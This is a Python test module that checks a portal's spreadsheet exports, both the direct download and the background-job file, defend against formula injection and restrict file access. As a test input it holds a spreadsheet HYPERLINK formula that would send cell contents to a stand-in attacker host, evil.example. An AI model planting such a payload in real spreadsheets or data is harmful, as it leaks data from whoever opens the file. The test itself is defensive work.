"""Formula injection through every export (issue 8): hostile text from the admin form and the
bureau comes back as text cells, in the direct download and in the background job's file."""
from __future__ import annotations

import io
import re

import pytest
from openpyxl import load_workbook

from tests.security.conftest import login_client
from tests.security.routes import ROUTES
from tests.sync_helpers import create_via_form, org, run_worker, tasks
from tests.test_exports_safety import _rename

EXPORTS = sorted(r.endpoint for r in ROUTES if r.export)
ORG_NAME = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
ERROR = "@SUM(1)"


def test_the_export_routes_are_the_ones_tested_here():
    assert EXPORTS == ["sync_logs.export_tasks"]


def _assert_text_cells(data: bytes):
    ws = load_workbook(io.BytesIO(data)).active
    header, row = list(ws.iter_rows(min_row=1, max_row=2))
    by_header = {h.value: cell for h, cell in zip(header, row)}
    for column, text in (("核算组织", ORG_NAME), ("错误描述", ERROR)):
        cell = by_header[column]
        assert cell.value == text and cell.data_type == "s" and cell.quotePrefix is True, column


@pytest.mark.parametrize("mode", ["direct", "background"])
def test_every_export_writes_formulas_from_data_as_text(portal_with_sandbox, sandbox, mode):
    app = portal_with_sandbox
    admin = login_client(app, "admin")
    _rename(admin, admin.client, "ORG01", ORG_NAME)
    sandbox.fault(org("ORG01").tax_id, "fail", reason_code="download_apply_failed", message=ERROR,
                  operation="apply_download", count=1)
    create_via_form(admin, "ORG01")
    run_worker()
    task = tasks()[0]
    assert task.error == ERROR
    if mode == "background":
        app.config["EXPORT_SYNC_LIMIT"] = 0
    r = admin.post("/sync-logs/export", {"ids": [str(task.id)]}, page="/sync-logs/")
    if mode == "direct":
        assert r.status_code == 200 and "spreadsheetml" in r.headers["Content-Type"]
        _assert_text_cells(r.data)
        return
    assert r.status_code == 302 and re.match(r"/jobs/\d+$", r.headers["Location"]), r.headers.get("Location")
    run_worker()
    f = admin.client.get(r.headers["Location"] + "/file")
    assert f.status_code == 200 and "spreadsheetml" in f.headers["Content-Type"]
    _assert_text_cells(f.data)
    # and nobody else gets the file
    assert login_client(app, "kaipiao1").client.get(r.headers["Location"] + "/file").status_code == 404
